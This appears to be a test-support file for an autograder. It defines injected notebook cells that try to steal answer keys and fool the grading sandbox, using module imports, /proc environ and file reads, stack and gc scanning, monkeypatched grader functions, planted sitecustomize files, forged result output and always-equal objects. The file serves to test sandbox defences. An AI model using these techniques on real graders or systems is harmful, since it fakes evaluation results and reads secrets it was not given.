"""상자 안에서 답을 찾아내려는 셀들입니다.

저마다 found에 {문제의 이름: 답}을 담으려 합니다. 답처럼 보이는 것을 찾으면 take가 담습니다. 만점을 받으려는
학생의 자리에서 쓴 것이므로, 상자에 답이 들어가면(sandbox.INSIDE) 점수가 나와야 이 테스트가 쓸모 있습니다.
"""

from tests.support.submitted import added, cell, load

TAKE = """
found = {}
def take(thing):
    question = getattr(thing, "question", thing)
    name, solution = getattr(question, "name", None), getattr(thing, "solution", None)
    if type(name) is str and solution is not None:
        found[name] = solution
def take_module(module):
    for value in list(vars(module).values()):
        for each in value if type(value) in (list, tuple) else [value]:
            take(each)
def take_source(text):
    import types
    module = types.ModuleType("stolen")
    try:
        exec(text, vars(module))
    except BaseException:
        return
    take_module(module)
"""
ANYTHING = """
class Anything(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __sub__ = __rsub__ = __mul__ = lambda self, other: 0.0
    __hash__ = float.__hash__
    def __call__(self, *arguments): return self
found = dict.fromkeys([f"4.3-{n}" for n in range(1, 7)], Anything(0))
"""
ATTACKS = {
    "불러오기": """
from importlib import import_module
for name in ("lib.answers.chapter_4_3", "exercises.keys.chapter_4_3", "exercises.key", "exercises.judge",
             "classroom.grading", "classroom.answer", "exercises.check", "lib.check"):
    try:
        take_module(import_module(name))
    except ImportError:
        pass
try:
    from exercises.keys import find
    [take(find(f"4.3-{n}")) for n in range(1, 7)]
except ImportError:
    pass
""",
    "파일 읽기": """
import os
for folder, _, files in os.walk("/desk"):
    for file in files:
        try:
            text = open(os.path.join(folder, file), encoding="utf-8").read()
        except (OSError, ValueError):
            continue
        if "solution" in text or "BEGIN SOLUTION" in text:
            take_source(text)
""",
    "책의 폴더 찾기": """
import os
for folder in ("/work", "/root", "/home", "/mnt", "/tmp", "/opt"):
    for place, folders, files in os.walk(folder):
        if {"exercises", "classroom"} & set(folders) or "chapter_4_3.py" in files:
            for path, _, names in os.walk(place):
                for name in names:
                    if name.endswith((".py", ".ipynb")):
                        take_source(open(os.path.join(path, name), encoding="utf-8").read())
""",
    "sys.modules": """
import sys
for module in list(sys.modules.values()):
    try:
        take_module(module)
    except Exception:
        pass
""",
    "gc": """
import gc
for thing in gc.get_objects():
    try:
        take(thing)
    except Exception:
        pass
""",
    "/proc": """
import glob, os
for top in ("root/desk", "root", "cwd/../.."):
    for path in glob.glob("/proc/[0-9]*/" + top + "/exercises/*/chapter_4_3.py"):
        take_source(open(path, encoding="utf-8").read())
for path in [path for kind in ("fd/*", "cmdline", "environ") for path in glob.glob("/proc/[0-9]*/" + kind)]:
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        text = os.read(handle, 10**6).decode(errors="replace")
        os.close(handle)
    except OSError:
        continue
    if "solution" in text:
        take_source(text)
""",
    "커널의 기록": """
shell = get_ipython()
for name, value in list(shell.user_ns.items()) + list(shell.user_ns_hidden.items()):
    take(value)
for text in list(In) + [str(value) for value in Out.values()]:
    if "solution" in text:
        take_source(text)
list(shell.history_manager.get_tail(100)) if shell.history_manager.db_log_output else None
""",
    "적는 함수 바꾸기": """
import sys, exercises.outcome, exercises.questions
runner = sys.modules.get("classroom.box.runner") or sys.modules["__main__"]
real = exercises.questions.find
def cheat(question, answer, cases):
    solution = getattr(question, "solution", None) or getattr(real(question.name), "solution", None)
    return exercises.outcome.run(question, solution, cases) if solution else [{"value": True}] * len(cases)
for name, module in list(sys.modules.items()):
    for attribute in ("run_answer", "run"):
        if hasattr(module, attribute) and name.startswith(("exercises", "classroom", "lib", "__main__")):
            setattr(module, attribute, cheat)
""",
    "스레드": """
import sys, threading, gc
def look():
    for frame in sys._current_frames().values():
        while frame:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                take(value)
            frame = frame.f_back
watcher = threading.Thread(target=look)
watcher.start()
watcher.join()
""",
    "스택 거슬러 오르기": """
import sys
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        take(value)
    frame = frame.f_back
""",
    "sitecustomize": """
import subprocess, sys
for folder in ("/desk", "/desk/exercises/student", "/desk/.local/lib/python3.11/site-packages"):
    for name in ("sitecustomize", "usercustomize", "exercises", "numpy"):
        try:
            __import__("os").makedirs(folder, exist_ok=True)
            open(f"{folder}/{name}.py", "w").write("import exercises.keys.chapter_4_3 as k; print(k.KEYS)")
        except OSError:
            pass
done = subprocess.run([sys.executable, "-c", "import exercises.keys"], capture_output=True, text=True)
take_source(done.stdout)
""",
    "피클": """
import pickle
class Loaded:
    def __reduce__(self):
        return __import__, ("exercises.keys.chapter_4_3",)
try:
    take_module(pickle.loads(pickle.dumps(Loaded())).keys.chapter_4_3)
except ImportError:
    pass
found = found or dict.fromkeys([f"4.3-{n}" for n in range(1, 7)], lambda *arguments: Loaded())
""",
    "끝날 때": """
import atexit, json, os
def forge():
    for number in range(3, 10):
        for line in range(40):
            try:
                text = json.dumps({"cell": line, "outcomes": [{"value": True}] * 5})
                os.write(number, (text + "\\n").encode())
            except OSError:
                pass
atexit.register(forge)
forge()
""",
    "무엇과도 같은 수": ANYTHING,
    "numpy를 물려받은 결과": """
import numpy as np
class Anything(np.ndarray):
    __eq__ = __ne__ = __le__ = lambda self, other: np.True_
    def __array_ufunc__(self, *arguments, **named): return np.True_
    def tolist(self): return 0.0
def anything(*arguments): return np.zeros(1).view(Anything)
found = dict.fromkeys([f"4.3-{n}" for n in range(1, 7)], anything)
""",
    "인터넷에서 찾기": """
import socket, urllib.request
for address in ("http://127.0.0.1/", "https://github.com/OWNER/REPOSITORY"):
    try:
        take_source(urllib.request.urlopen(address, timeout=2).read().decode())
    except OSError:
        pass
for family in (socket.AF_INET, socket.AF_INET6):
    with socket.socket(family) as line:
        line.settimeout(2)
        try:
            line.connect(("127.0.0.1" if family == socket.AF_INET else "::1", 80))
            take_source(line.recv(10**6).decode())
        except OSError:
            pass
""",
    "pip의 보관함과 .git": """
import glob, zlib
for pattern in ("/**/.cache/pip/**", "/**/.git/objects/**"):
    for top in ("/desk", "/root", "/home", "/work", "/tmp"):
        for path in glob.glob(top + pattern, recursive=True, include_hidden=True):
            try:
                take_source(zlib.decompress(open(path, "rb").read()).split(b"\\0", 1)[-1].decode())
            except Exception:
                pass
""",
    "번역해 둔 파일": """
import glob, marshal, types
for path in glob.glob("/desk/**/*.pyc", recursive=True):
    module = types.ModuleType("stolen")
    try:
        exec(marshal.loads(open(path, "rb").read()[16:]), vars(module))
    except Exception:
        pass
    take_module(module)
""",
    "물려받은 클래스 뒤지기": """
def below(kind):
    for each in type.__subclasses__(kind):
        yield each
        yield from below(each)
import gc
kinds = [kind for kind in below(object) if kind.__name__ in ("Key", "Exercise", "Wrong", "Question")]
for kind in kinds:
    for thing in gc.get_referrers(kind):
        take(thing)
    for function in [value for value in vars(kind).values() if callable(value)]:
        for value in list(getattr(function, "__globals__", {}).values()):
            take(value)
""",
}
ANSWERS = {
    "4.3-1": "second_difference = found.get('4.3-1')",
    "4.3-2": "h_forward, h_central = found['4.3-2'] if type(found.get('4.3-2')) is tuple else (None, None)",
    "4.3-3": "best_step = found.get('4.3-3')",
    "4.3-4": "order = found.get('4.3-4')",
    "4.3-5": "trust = found.get('4.3-5')",
    "4.3-6": "partial_derivative = found.get('4.3-6')",
}


def untouched(attack):
    """풀지 않은 학생용에 그 셀 하나만 더한 제출물입니다."""
    return _with_attack(load("student"), attack)


def touched(attack):
    """찾은 답을 답의 셀마다 옮겨 적은 제출물입니다."""
    notebook = load("student")
    for name, line in ANSWERS.items():
        cell(notebook, f"answer-{name.replace('.', '-')}")["source"] = f"# 문제 {name}\n{line}"
    return _with_attack(notebook, attack)


def _with_attack(notebook, attack):
    notebook["cells"].insert(3, added(f"{TAKE}\n{ATTACKS[attack]}"))
    return notebook
